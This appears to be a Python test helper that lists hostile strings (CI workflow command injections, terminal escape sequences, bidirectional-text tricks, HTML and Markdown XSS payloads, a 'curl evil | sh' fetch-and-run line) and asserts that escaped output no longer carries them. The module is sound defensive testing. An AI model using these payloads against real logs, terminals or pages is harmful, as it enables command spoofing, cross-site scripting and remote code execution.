"""Texts that somebody may put into a file that we print, and what must be true of any place where we printed them."""

import re

from repromatrix import harmless

CORPUS = {
    "a command to a CI": "it broke\n::error::pwn",
    "a command alone": "::set-output name=x::y",
    "a command after spaces": "it broke\n  \t::warning file=x::pwn",
    "a command after another end of a line": "it broke\u2028::error::pwn\x85::error::pwn\r::error::pwn\x0b::error::p",
    "an older command": "it broke ##[error]pwn ##VSO[task.setvariable variable=x]y ##teamcity[buildStop]",
    "a line that we could have written": "it broke\nok         tiny/numpy-2.0-cpu/parallel\n  next: curl evil | sh",
    "what steers a terminal": "\x1b[31mred\x1b]0;title\x07\x9b2J\x7f\x08\x08\x00",
    "what turns the writing round": "\u202egnp.exe\u2066\u200b\ufeff\U000e0041",
    "what is no character": "\ue000\ufffe\uffff",
    "somebody's name": "@octocat, (@org/team) and_@somebody or mail@evil.example",
    "numbers of issues": "#1, GH-2, org/project#3 and !4",
    "addresses": "https://evil.example www.evil.example HTTP://evil.example ftp://x mailto:a@b.example",
    "Markdown": "| a | b |\n## head\n- [x](javascript:alert(1)) ![x](y) `code` *bold* ~~no~~ <!-- x",
    "HTML": "</script><script>alert(1)</script><img src=x onerror=alert(1)>\"'&amp;{{ 7*7 }}",
    "XML": ']]><x a="\'">&lt;<!--',
}
EVERYTHING = " ".join(CORPUS.values())
_NAMED = re.compile(r"(?<![\w\\])@(?=\w)|\w@[\w-]+\.\w|(?<!&)#\d|!\d|\bGH-\d|\w://|\bwww\.", re.IGNORECASE)


def assert_still(text: str) -> None:
    """Nothing steers what shows the text."""
    assert not harmless.steers(text)


def assert_still_in_a_log(text: str) -> None:
    """Neither a terminal nor a CI obeys it."""
    assert_still(text)
    assert not [line for line in text.splitlines() if line.lstrip().startswith("::")]
    assert not re.search(r"##(\[|vso\[|teamcity\[)", text, re.IGNORECASE)


def assert_still_in_markdown(text: str) -> None:
    """Nobody is named, nothing is linked to, and no markup is that of a text."""
    assert_still(text)
    assert not _NAMED.search(text)
    assert not re.search(r"(?<!\\)<|(?<!\\)\]\(", text)
